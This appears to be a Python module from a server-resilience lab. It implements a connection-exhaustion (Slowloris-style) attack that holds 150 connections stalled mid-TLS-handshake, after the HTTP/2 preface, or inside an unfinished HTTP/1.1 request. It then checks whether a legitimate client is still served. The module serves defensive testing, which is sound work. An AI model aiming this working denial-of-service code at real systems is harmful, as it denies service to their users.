"""Many connections opened at once and left idle part way in: the cheapest attack on a room's
network. Each connection costs the attacker a socket; what it costs the server depends on
whether the server gives a thread, a slot or nothing to a connection that says nothing.

    with held_connections(endpoint, STAGE) as held:
        ...a good client, on a new connection, must still be served...
"""

import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field

import httpx
from hyperframe.frame import SettingsFrame

from abuse import PREFACE
from lab import Endpoint
from wire import http_client, tls_context

HELD = 150  # connections held at once: more than a thread-per-connection server has threads
OPENING_AT_ONCE = 30  # attack connections being opened at the same time
OPEN_PATIENCE = 3.0  # seconds one attack connection may take to reach its stage
GOOD_CLIENT_PATIENCE = 2.0  # seconds a good client's GET / may take, connection included
GOOD_CLIENT_TRIES = 3  # one after another, each on a new connection
GOOD_ENOUGH = 2  # of those tries answered 200 within GOOD_CLIENT_PATIENCE
GOOD_CLIENT_GIVES_UP = 5.0  # seconds it waits for each step (connect, TLS, answer) before it counts an error


@dataclass
class Held:
    """The attack connections that reached their stage, and why the others did not."""

    sockets: list[socket.socket] = field(default_factory=list)
    not_opened: Counter = field(default_factory=Counter)  # error -> count

    def close(self) -> None:
        for held in self.sockets:
            held.close()

    def __str__(self) -> str:
        refused = ", ".join(f"{count}x {error}" for error, count in self.not_opened.items())
        return f"{len(self.sockets)}/{HELD} held" + (f" ({refused})" if refused else "")


def half_a_client_hello(endpoint: Endpoint) -> bytes:
    """The first half of the ClientHello a real client would send (TLS stalls mid-handshake)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = tls_context(["h2", "http/1.1"]).wrap_bio(incoming, outgoing, server_hostname=endpoint.host)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass  # the ClientHello is written; the server's answer will never be read
    hello = outgoing.read()
    return hello[: len(hello) // 2]


def tls_then(alpn: str, data: Callable[[Endpoint], bytes]) -> Callable[[Endpoint, socket.socket], socket.socket]:
    """A stage that completes TLS (offering only `alpn`), sends `data`, and falls silent."""

    def stage(endpoint: Endpoint, raw: socket.socket) -> socket.socket:
        tls = tls_context([alpn]).wrap_socket(raw, server_hostname=endpoint.host)
        if tls.selected_alpn_protocol() != alpn:
            tls.close()
            raise ssl.SSLError(f"ALPN selected {tls.selected_alpn_protocol()!r}")
        tls.sendall(data(endpoint))
        return tls

    return stage


def sent_raw(data: Callable[[Endpoint], bytes]) -> Callable[[Endpoint, socket.socket], socket.socket]:
    """A stage that sends `data` on the bare TCP connection, and falls silent."""

    def stage(endpoint: Endpoint, raw: socket.socket) -> socket.socket:
        raw.sendall(data(endpoint))
        return raw

    return stage


def partial_request(endpoint: Endpoint) -> bytes:
    """An HTTP/1.1 request line and headers with no blank line after them: never complete."""
    return f"GET / HTTP/1.1\r\nHost: {endpoint.host}:{endpoint.port}\r\nUser-Agent: h2lab-exhaustion\r\n".encode()


# How far each connection goes before it falls silent.
AFTER_PREFACE = tls_then("h2", lambda _: PREFACE + SettingsFrame(0).serialize())
AFTER_HALF_A_CLIENT_HELLO = sent_raw(half_a_client_hello)
AFTER_PARTIAL_REQUEST = tls_then("http/1.1", partial_request)


def open_one(endpoint: Endpoint, stage: Callable) -> socket.socket | str:
    """One attack connection at its stage, or the reason it did not get there."""
    try:
        raw = socket.create_connection((endpoint.host, endpoint.port), timeout=OPEN_PATIENCE)
    except OSError as error:
        return type(error).__name__
    try:
        return stage(endpoint, raw)
    except OSError as error:  # ssl.SSLError and timeouts included
        raw.close()
        return type(error).__name__


@contextmanager
def held_connections(endpoint: Endpoint, stage: Callable) -> Iterator[Held]:
    """HELD connections opened (OPENING_AT_ONCE at a time), each left at `stage`; all closed after."""
    held = Held()
    try:
        with ThreadPoolExecutor(OPENING_AT_ONCE, thread_name_prefix=f"attack-{endpoint.name}") as openers:
            for opened in openers.map(lambda _: open_one(endpoint, stage), range(HELD)):
                if isinstance(opened, str):
                    held.not_opened[opened] += 1
                else:
                    held.sockets.append(opened)
        yield held
    finally:
        held.close()


def verdict(outcomes: list[tuple[str, float]]) -> str:
    """What the good client's tries say so far: "served", "not served in time", or "" (not known yet)."""
    in_time = sum(status == "200" and seconds <= GOOD_CLIENT_PATIENCE for status, seconds in outcomes)
    if any(status != "200" for status, _ in outcomes) or len(outcomes) - in_time > GOOD_CLIENT_TRIES - GOOD_ENOUGH:
        return "not served in time"
    return "served" if in_time >= GOOD_ENOUGH else ""


def get_over_tcp(endpoint: Endpoint) -> str:
    """GET / on a new TCP connection: its status, or the error that ended it."""
    try:
        with http_client(endpoint, http2=endpoint.http2) as client:
            return str(client.get("/", timeout=httpx.Timeout(GOOD_CLIENT_GIVES_UP)).status_code)
    except Exception as error:  # noqa: BLE001 - every failure is an outcome to report
        return type(error).__name__


def good_client_gets(
    endpoint: Endpoint,
    get: Callable[[Endpoint], str] = get_over_tcp,
    judge: Callable[[list[tuple[str, float]]], str] = verdict,
) -> list[tuple[str, float]]:
    """`get` on a new connection, one after another, until `judge` (verdict) knows: (status or
    error, seconds) each. Two of three in time is the bar, so that one slow answer while other
    attacks load the machine is not taken for a lock-out."""
    outcomes: list[tuple[str, float]] = []
    while len(outcomes) < GOOD_CLIENT_TRIES and not judge(outcomes):
        started = time.monotonic()
        outcome = get(endpoint)
        outcomes.append((outcome, round(time.monotonic() - started, 2)))
    return outcomes
